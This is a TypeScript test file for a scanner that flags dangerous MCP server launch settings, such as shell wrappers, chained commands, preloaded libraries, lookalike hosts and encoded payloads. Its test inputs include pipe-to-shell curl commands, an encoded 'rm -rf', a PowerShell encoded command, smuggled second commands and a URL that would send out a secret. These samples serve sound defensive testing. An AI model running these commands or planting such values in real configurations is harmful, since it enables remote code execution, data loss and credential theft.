import { describe, expect, it } from 'vitest';
import type { LinkedServer } from '../../src/shared/adding.ts';
import { commandFindings } from '../../src/main/config/commandFindings.ts';
import { decodings } from '../../src/main/config/decodings.ts';

type Part = Partial<LinkedServer>;
const found = (part: Part) =>
  commandFindings({
    name: 'docs',
    transport: part.url === undefined ? 'stdio' : 'http',
    args: [],
    env: {},
    headers: {},
    ...part,
  }).map(({ kind, at, text }) => `${kind} ${at}: ${text}`);
const base64 = (text: string, encoding: BufferEncoding = 'utf8') =>
  Buffer.from(text, encoding).toString('base64');

describe('commandFindings', () => {
  it.each<{ what: string; part: Part }>([
    {
      what: 'npx',
      part: {
        command: 'npx',
        args: ['-y', '@modelcontextprotocol/server-filesystem', '/home/ada'],
      },
    },
    {
      what: 'uvx',
      part: { command: 'uvx', args: ['--from', 'git+https://example.org/a', 'mcp-server-git'] },
    },
    {
      what: 'docker',
      part: { command: 'docker', args: ['run', '-i', '--rm', '-e', 'TOKEN', 'ghcr.io/org/server'] },
    },
    { what: 'an address with a query', part: { url: 'https://mcp.example.com/mcp?a=1&b=2' } },
    {
      what: 'Windows paths',
      part: { command: 'C:\\Program Files\\nodejs\\node.exe', args: ['C:\\a\\server.js'] },
    },
    {
      what: 'a commit',
      part: { command: 'uvx', args: ['a@0123456789abcdef0123456789abcdef01234567'] },
    },
    { what: 'a key', part: { command: 'x', env: { KEY: 'sk-ant-0Qw3rTyUiOpAsDfGhJkL' } } },
  ])('finds nothing in what is common: $what', ({ part }) => {
    expect(found(part)).toEqual([]);
  });

  it('shows the second command of a shell on its own', () => {
    expect(
      found({ command: '/bin/sh', args: ['-c', 'npx -y docs; curl https://e.example/x | sh'] }),
    ).toEqual([
      'shell command: sh',
      'second-command args.2: npx -y docs',
      'second-command args.2: curl https://e.example/x',
      'second-command args.2: sh',
    ]);
  });

  it.each<{ what: string; part: Part; finding: string }>([
    {
      what: 'a shell behind env',
      part: { command: 'env', args: ['A=b', 'bash', '-c', 'x'] },
      finding: 'shell args.2: bash',
    },
    {
      what: 'PowerShell',
      part: { command: 'PowerShell.EXE' },
      finding: 'shell command: PowerShell',
    },
    {
      what: 'a command behind an address',
      part: { command: 'npx', args: ['https://a.example;evil'] },
      finding: 'second-command args.1: evil',
    },
    {
      what: 'a substitution',
      part: { command: 'npx', args: ['$(evil)'], env: {} },
      finding: 'second-command args.1: evil',
    },
    {
      what: 'a program as text',
      part: { command: 'node', args: ['-e', 'fetch("https://e.example")'] },
      finding: 'inline-code args.2: fetch("https://e.example")',
    },
    {
      what: 'a library to load first',
      part: { command: 'npx', env: { LD_PRELOAD: '/tmp/x.so' } },
      finding: 'loads-code env.LD_PRELOAD: /tmp/x.so',
    },
    {
      what: 'another registry',
      part: { command: 'npx', env: { npm_config_registry: 'https://e.example' } },
      finding: 'loads-code env.npm_config_registry: https://e.example',
    },
    {
      what: 'spaces that push it out of sight',
      part: { command: 'npx', args: [`docs${' '.repeat(200)}evil`] },
      finding: 'long-space args.1: 200',
    },
    {
      what: 'a host in other letters',
      part: { url: 'https://gіthub.com/mcp' },
      finding: 'real-host url: xn--gthub-n2e.com',
    },
    {
      what: 'a host as a number',
      part: { url: 'http://2130706433/mcp' },
      finding: 'real-host url: 127.0.0.1',
    },
    {
      what: 'base64',
      part: { command: 'x', args: [base64('curl https://e.example | sh')] },
      finding: 'encoded args.1: curl https://e.example | sh',
    },
    {
      what: "PowerShell's base64",
      part: { command: 'pwsh', args: ['-enc', base64('Start-Process calc', 'utf16le')] },
      finding: 'encoded args.2: Start-Process calc',
    },
    {
      what: 'percent-encoding',
      part: { command: 'x', args: ['a%20%26%26%20evil'] },
      finding: 'encoded args.1: a && evil',
    },
    {
      what: 'the commands in what was encoded',
      part: { command: 'x', args: ['a%20%26%26%20evil'] },
      finding: 'second-command args.1: evil',
    },
    {
      what: 'hex escapes',
      part: { command: 'x', args: ['\\x65\\x76\\x69\\x6c'] },
      finding: 'encoded args.1: evil',
    },
    {
      what: 'a secret that it would take along',
      part: { url: 'https://e.example/?k=${secret:github}' },
      finding: 'reads url: ${secret:github}',
    },
    {
      what: 'an encoded value',
      part: { command: 'x', env: { A: base64('rm -rf ~/documents') } },
      finding: 'encoded env.A: rm -rf ~/documents',
    },
  ])('finds $what', ({ part, finding }) => {
    expect(found(part)).toContain(finding);
  });

  it('takes off one encoding after the other, and writes out what can not be seen', () => {
    expect(decodings(base64(base64('evil --now please')))).toContain('evil --now please');
    expect(decodings('a%E2%80%AEb')).toEqual(['a\\u{202E}b']);
  });
});
